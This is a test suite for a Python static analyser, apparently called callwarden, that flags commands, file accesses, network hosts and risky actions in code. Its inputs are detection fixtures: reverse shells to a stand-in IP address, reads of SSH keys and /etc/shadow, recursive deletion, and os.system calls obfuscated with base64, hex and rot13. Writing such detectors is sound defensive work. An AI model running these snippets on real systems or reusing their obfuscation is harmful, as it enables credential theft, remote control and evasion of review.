"""Python read by its syntax tree: what it runs, opens and reaches, and what of that can't be known."""

from __future__ import annotations

import os
import string
import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callwarden.facts import code
from callwarden.facts.builder import Builder
from callwarden.facts.context import Context
from callwarden.facts.model import Facts


def heard(context: Context, source: str, language: str = "python") -> tuple[Facts, list[str]]:
    """The facts of a program, and the texts that it handed to the shell reader."""
    texts: list[str] = []
    builder = Builder(context, "/workspace", shell=lambda _, text, __: texts.append(text), code=code.read)
    builder.code(language, source)
    return builder.build(), texts


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("import os; os.system('ls -l')", "ls -l"),
        ("from os import system as go; go('ls -l')", "ls -l"),
        ("import subprocess; subprocess.run(['ls', '-l'])", "ls -l"),
        ("import subprocess as sp; sp.check_output('ls -l', shell=True)", "ls -l"),
        ("import subprocess; subprocess.Popen(args=['ls', '-l', 'a b'])", "ls -l 'a b'"),
        ("import subprocess; subprocess.run(['ls -l', 'x'], shell=True)", "ls -l"),
        ("import subprocess; c = ['ls']; c += ['-l']; subprocess.call(c)", "ls -l"),
        ("import subprocess, shlex; subprocess.run(shlex.split('ls -l'))", "ls -l"),
        ("import subprocess, sys; subprocess.run([sys.executable, '-m', 'pytest'])", "python3 -m pytest"),
        ("import os; os.execvp('ls', ['ls', '-l'])", "ls -l"),
        ("import os; os.execlp('ls', 'ls', '-l')", "ls -l"),
        ("import os; os.execv('/bin/sh', ['innocent', '-c', 'id'])", "/bin/sh -c id"),
        ("import os; os.spawnv(os.P_WAIT, '/bin/ls', ['x', '-l'])", "/bin/ls -l"),
        ("import subprocess; subprocess.run(['x', '-l'], executable='/bin/ls')", "/bin/ls -l"),
        ("import os; os.popen('l' + 's').read()", "ls"),
        ("import os; getattr(os, 'sys' + 'tem')('ls')", "ls"),
        ("__import__('o' + 's').system('ls')", "ls"),
        ("import importlib; importlib.import_module('os').system('ls')", "ls"),
        ("import os; a = 'l'; b = f'{a}s'; os.system(b)", "ls"),
        ("import os; os.system('%s -%s' % ('ls', 'l'))", "ls -l"),
        ("import os; os.system('{} -l'.format('ls'))", "ls -l"),
        ("import os; os.system(''.join(['l', 's']))", "ls"),
        ("import os; os.system('sl'[::-1])", "ls"),
        ("import os; os.system(chr(108) + chr(115))", "ls"),
        ("import os, base64; os.system(base64.b64decode('bHM=').decode())", "ls"),
        ("import os; os.system(bytes.fromhex('6c73').decode())", "ls"),
        ("import os, codecs; os.system(codecs.decode('yf', 'rot13'))", "ls"),
        ("import os\ndef go(c): os.system(c)\ngo('ls')", "ls"),
        ("import os\nfor c in ['ls', 'id']: os.system(c)", "ls"),
        ("import os\nclass A:\n  def __init__(self): self.c = 'ls'\n  def go(self): os.system(self.c)", "ls"),
        ("import asyncio\nasync def f(): await asyncio.create_subprocess_exec('ls', '-l')", "ls -l"),
        ("import pty; pty.spawn('/bin/sh')", "/bin/sh"),
        ("exec('import os; os.system(\"ls\")')", "ls"),
        ("import subprocess; subprocess.run(['git', 'add', name])", 'git add "$unknown"'),
        ("import os; os.system(f'rm -r {d}')", "rm -r $unknown"),
        ("__builtins__.__import__('os').system('ls')", "ls"),
    ],
)
def test_a_command_goes_to_the_shell_reader(context: Context, source: str, text: str) -> None:
    found, texts = heard(context, source)
    assert text in texts
    assert "process" in {action for block in found.code for action in block.actions}


@pytest.mark.parametrize(
    "source",
    [
        "import os, sys; os.system(sys.argv[1])",
        "import subprocess; subprocess.run(input())",
        "import subprocess, json; subprocess.run(json.load(open('x')))",
        "import os\ndef go(c): os.system(c)\nmap(go, names)",
        "import subprocess; subprocess.run([tool, '-l'])",
        "import subprocess; subprocess.run(*args)",
        "import subprocess; subprocess.run(**options)",
        "import os; os.execv(program, ['ls'])",
        "import psutil\nfor p in psutil.process_iter():\n    if 'sshd' in p.name(): p.kill()",
    ],
)
def test_a_command_that_can_t_be_known_is_opaque(context: Context, source: str) -> None:
    found, texts = heard(context, source)
    assert "program" in {opaque.place for opaque in found.opaque}
    assert texts == []


@pytest.mark.parametrize(
    ("source", "path", "access"),
    [
        ("open('a.txt')", "/workspace/a.txt", "read"),
        ("open('a.txt', 'w')", "/workspace/a.txt", "write"),
        ("open('a.txt', mode='ab')", "/workspace/a.txt", "append"),
        ("open('a.txt', 'x')", "/workspace/a.txt", "create"),
        ("import os; open(os.path.join('a', 'b'), 'r')", "/workspace/a/b", "read"),
        ("import os; open(os.path.expanduser('~/.ssh/id_rsa'))", "/home/agent/.ssh/id_rsa", "read"),
        ("import os; open(os.environ['HOME'] + '/x')", "/home/agent/x", "read"),
        ("from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').read_text()", "/home/agent/.ssh/id_rsa", "read"),
        ("from pathlib import Path; p = Path('a'); (p / 'b').write_text('x')", "/workspace/a/b", "write"),
        ("from pathlib import Path\nfor p in Path('src').glob('*.py'): p.unlink()", "/workspace/src/*.py", "delete"),
        ("from pathlib import Path; Path('a').open('w')", "/workspace/a", "write"),
        ("import shutil; shutil.rmtree('/data')", "/data", "delete"),
        ("import shutil; shutil.copy('/etc/shadow', 'x')", "/etc/shadow", "read"),
        ("import shutil; shutil.move('a', '/usr/b')", "/usr/b", "write"),
        ("import os; os.rename('a', 'b')", "/workspace/a", "delete"),
        ("import os; os.chmod('a', 0o777)", "/workspace/a", "chmod"),
        ("import os; os.open('/x', os.O_WRONLY | os.O_CREAT)", "/x", "write"),
        (
            "import os\nfor r, d, f in os.walk('src'):\n  for n in f: open(os.path.join(r, n))",
            "/workspace/src/*",
            "read",
        ),
        ("for n in range(3): open(f'out{n}.txt', 'w')", "/workspace/out0.txt", "write"),
        ("import pandas as pd; pd.read_csv('d.csv')", "/workspace/d.csv", "read"),
        ("df.to_csv('out.csv')", "/workspace/out.csv", "write"),
        ("with open('a') as f, open('/b', 'w') as g: g.write(f.read())", "/b", "write"),
        ("import ctypes; ctypes.CDLL('/tmp/x.so')", "/tmp/x.so", "execute"),
    ],
)
def test_a_file_is_an_access(context: Context, source: str, path: str, access: str) -> None:
    found, _ = heard(context, source)
    assert (path, access) in {(fact.path, fact.access) for fact in found.paths}


def test_a_written_path_that_can_t_be_known_is_opaque(context: Context) -> None:
    found, _ = heard(context, "import sys; open(sys.argv[1], 'w')")
    assert {opaque.place for opaque in found.opaque} == {"write"}


@pytest.mark.parametrize(
    ("source", "place"),
    [
        ("import os; list(map(os.system, texts))", "program"),
        ("import os, threading; threading.Thread(target=os.system, args=('id',)).start()", "program"),
        ("import os; pool.map(os.remove, files)", "write"),
        ("import functools; functools.partial(exec, x)()", "code"),
    ],
)
def test_a_function_that_is_handed_on_is_opaque(context: Context, source: str, place: str) -> None:
    found, _ = heard(context, source)
    assert place in {opaque.place for opaque in found.opaque}


def test_a_function_that_is_only_looked_at_is_not_opaque(context: Context) -> None:
    found, _ = heard(context, "import subprocess; isinstance(x, subprocess.Popen)")
    assert found.opaque == []


def test_the_known_end_of_an_unknown_path_has_its_class(context: Context) -> None:
    found, _ = heard(context, "import os, sys; open(os.path.join(sys.argv[1], '.ssh/id_rsa'))")
    assert "secret" in found.paths[0].classes
    assert not found.paths[0].known


@pytest.mark.parametrize(
    ("source", "name", "port"),
    [
        ("import requests; requests.get('https://a.example/x')", "a.example", 443),
        ("import requests as r; s = r.Session(); s.post('http://a.example:81/')", "a.example", 81),
        ("from urllib.request import urlopen; urlopen('http://a.example')", "a.example", 80),
        ("import urllib.request as u; u.urlopen(u.Request('http://a.example'))", "a.example", 80),
        ("import httpx\nwith httpx.Client() as c: c.get('https://a.example')", "a.example", 443),
        (
            "import aiohttp\nasync def f():\n async with aiohttp.ClientSession() as s: await s.get('http://a.example')",
            "a.example",
            80,
        ),
        ("import socket; s = socket.socket(); s.connect(('a.example', 4444))", "a.example", 4444),
        ("import socket; h = 'a.example'; socket.create_connection((h, 25))", "a.example", 25),
        ("import http.client as h; h.HTTPSConnection('a.example')", "a.example", 443),
        ("import smtplib; smtplib.SMTP('a.example', 587)", "a.example", 587),
        ("import paramiko; c = paramiko.SSHClient(); c.connect('a.example', username='x')", "a.example", 22),
        ("import requests\ndef go(u): return requests.get(u)\ngo('https://a.example')", "a.example", 443),
        ("import requests; requests.get(f'https://a.example/{x}')", "a.example", 443),
        ("import pandas as pd; pd.read_csv('https://a.example/x.csv')", "a.example", 443),
    ],
)
def test_a_connection_is_a_host(context: Context, source: str, name: str, port: int) -> None:
    found, _ = heard(context, source)
    assert (name, port) in {(host.name, host.port) for host in found.hosts}
    assert "network" in found.code[0].actions


@pytest.mark.parametrize(
    "source", ["import requests; requests.get(u)", "import socket; socket.socket().connect((h, 80))"]
)
def test_a_host_that_can_t_be_known_is_opaque(context: Context, source: str) -> None:
    found, _ = heard(context, source)
    assert {opaque.place for opaque in found.opaque} == {"host"}


CONNECTED = "import os, pty, socket, subprocess\ns = socket.socket(); s.connect(('192.0.2.1', 1))\n"


@pytest.mark.parametrize(
    ("source", "action"),
    [
        ("import socket; s = socket.socket(); s.bind(('0.0.0.0', 80)); s.listen()", "listen"),
        ("import http.server as h; h.HTTPServer(('', 8000), None)", "listen"),
        ("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", "raw_socket"),
        ("from scapy.all import send", "raw_socket"),
        ("import ctypes", "native"),
        ("exec(input())", "dynamic"),
        ("import os; getattr(os, name)('x')", "dynamic"),
        ("().__class__.__base__.__subclasses__()", "dynamic"),
        ("import importlib; importlib.import_module(name)", "dynamic"),
        ("from os import *", "dynamic"),
        ("import base64; exec(base64.b64decode(x))", "decode_execute"),
        ("import base64; c = base64.b64decode('cHJpbnQoMSk='); exec(c)", "decode_execute"),
        ("import zlib; exec(zlib.decompress(x))", "decode_execute"),
        (CONNECTED + "os.dup2(s.fileno(), 0); pty.spawn('sh')", "reverse_shell"),
        (CONNECTED + "subprocess.Popen(['sh'], stdin=s.fileno())", "reverse_shell"),
        ("import os; os.kill(1, 9)", "signal"),
        ("import os; print(dict(os.environ))", "environment"),
        ("import os; os.remove('x')", "delete"),
    ],
)
def test_what_code_does_is_an_action(context: Context, source: str, action: str) -> None:
    found, _ = heard(context, source)
    assert action in {name for block in found.code for name in block.actions}


def test_code_that_is_run_and_known_is_read_in_turn(context: Context) -> None:
    found, texts = heard(context, "import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))")
    assert texts == ["id"]
    assert found.opaque == []


@pytest.mark.parametrize(
    "source",
    [
        "import numpy as np, pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('x').mean().eval('a + b'))",
        "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\nmodel.compile()",
        "import re\np = re.compile(r'x+')\nprint(p.match('xx'))",
        "import pytest\n@pytest.mark.skip\ndef test_it(tmp_path):\n    (tmp_path / 'a').write_text('b')\n",
        "def save(path, text):\n    with open(path, 'w') as f:\n        f.write(text)\n",
        "import json, os\nos.makedirs('out')\nwith open(os.path.join('out', 'a'), 'w') as f: json.dump({}, f)",
        "import sqlite3\nwith sqlite3.connect('x.db') as c: c.execute('select 1')",
        "import argparse\np = argparse.ArgumentParser(); p.add_argument('--x'); print(p.parse_args([]))",
        "import tempfile\nwith tempfile.NamedTemporaryFile('w') as f: open(f.name, 'w')",
        "import os; print(os.environ.get('PATH'), os.getcwd(), os.listdir('.'))",
        "from importlib import import_module; m = import_module('json')",
        "import glob\nfor f in glob.glob('*.txt'): open(f, 'w').write('x')",
    ],
)
def test_ordinary_code_has_nothing_opaque_that_matters(context: Context, source: str) -> None:
    found, texts = heard(context, source)
    assert [opaque.reason for opaque in found.opaque if opaque.place != "read"] == []
    assert texts == []
    assert found.code[0].understood
    assert not {"dynamic", "native", "listen"} & set(found.code[0].actions)


@pytest.mark.parametrize("source", ["def (", "\0", "(" * 1000, "x = " + "-" * 100_000 + "1", "1" * 10_000])
def test_what_does_not_parse_is_opaque_and_not_understood(context: Context, source: str) -> None:
    found, _ = heard(context, source)
    assert found.code[0].understood is False
    assert [opaque.place for opaque in found.opaque] == ["code"]


def test_a_program_that_python_would_warn_of_is_read_in_silence() -> None:
    program = "from callwarden.facts.code_python import _parsed; print(type(_parsed(r'x = \"\\d\"')).__name__)"
    paths = os.pathsep.join(sys.path)
    environment = {**os.environ, "PYTHONPATH": paths, "PYTHONWARNINGS": "default"}
    done = subprocess.run([sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=True)
    assert (done.stdout, done.stderr) == ("Module\n", "")


def test_a_program_too_large_to_read_is_opaque(context: Context) -> None:
    found, _ = heard(context, "x = 1\n" * (1 << 16))
    assert [opaque.place for opaque in found.opaque] == ["code"]


def test_a_notebook_s_commands_are_shell(context: Context) -> None:
    found, texts = heard(context, "!ls -l\n%matplotlib inline\nimport os\nos.system('id')\n", "ipython")
    assert texts == ["ls -l", "id"]
    assert found.code[0].understood


def test_shell_as_a_language_is_shell(context: Context) -> None:
    assert heard(context, "ls", "bash")[1] == ["ls"]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_read(context: Context, source: str) -> None:
    found, _ = heard(context, source)
    assert found.code or found.opaque


_NAME = st.sampled_from(["os", "x", "open", "exec", "f", "socket", "self"])
_ATOM = st.one_of(_NAME, st.from_regex(r"'[a-z/.]{0,6}'", fullmatch=True), st.integers(0, 9).map(str))


@settings(max_examples=300, deadline=None)
@given(
    st.recursive(
        _ATOM,
        lambda inner: st.one_of(
            st.builds("{}({})".format, inner, inner),
            st.builds("({} + {})".format, inner, inner),
            st.builds("{}.system".format, inner),
            st.builds("[{}, {}]".format, inner, inner),
            st.builds("{}[{}]".format, inner, inner),
            st.builds("(lambda x: {})".format, inner),
            st.builds("(x := {})".format, inner),
        ),
        max_leaves=12,
    )
)
def test_any_expression_is_read(context: Context, expression: str) -> None:
    found, _ = heard(context, f"import os, socket\nx = {expression}\n{expression}")
    assert found.code


def test_names_that_go_round_in_circles_end(context: Context) -> None:
    names = string.ascii_lowercase
    source = (
        "import os\n"
        + "\n".join(f"{a} = {b} + {a}" for a, b in zip(names, names[1:] + names[0], strict=True))
        + "\nos.system(a)"
    )
    found, _ = heard(context, source)
    assert "program" in {opaque.place for opaque in found.opaque}
